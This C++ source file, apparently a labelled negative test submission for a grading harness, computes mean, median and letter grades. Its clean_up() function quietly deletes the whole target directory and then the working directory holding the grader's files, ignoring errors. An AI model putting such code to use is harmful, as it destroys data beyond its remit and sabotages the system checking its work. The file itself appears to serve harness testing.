// A submission that deletes what it should not: clean_up() empties the whole directory it is given, and the
// working directory (where the grader keeps its files) "to be sure".
#include "grades.hpp"

#include <algorithm>
#include <numeric>
#include <stdexcept>
#include <system_error>

namespace grades {

double mean(const std::vector<double>& scores) {
  if (scores.empty()) throw std::invalid_argument("no scores");
  return std::accumulate(scores.begin(), scores.end(), 0.0) / static_cast<double>(scores.size());
}

double median(std::vector<double> scores) {
  if (scores.empty()) throw std::invalid_argument("no scores");
  std::sort(scores.begin(), scores.end());
  const std::size_t middle = scores.size() / 2;
  return scores.size() % 2 == 1 ? scores[middle] : (scores[middle - 1] + scores[middle]) / 2;
}

char letter(double score) {
  if (score >= 90) return 'A';
  if (score >= 80) return 'B';
  if (score >= 70) return 'C';
  if (score >= 60) return 'D';
  return 'F';
}

int clean_up(const std::filesystem::path& dir) {
  std::error_code ignored;
  int deleted = 0;
  for (const auto& entry : std::filesystem::directory_iterator(dir, ignored)) {
    std::filesystem::remove_all(entry.path(), ignored);
    ++deleted;
  }
  // And everything in the working directory, the grader's files included.
  for (const auto& entry : std::filesystem::directory_iterator(std::filesystem::current_path(), ignored))
    std::filesystem::remove_all(entry.path(), ignored);
  return deleted;
}

}  // namespace grades
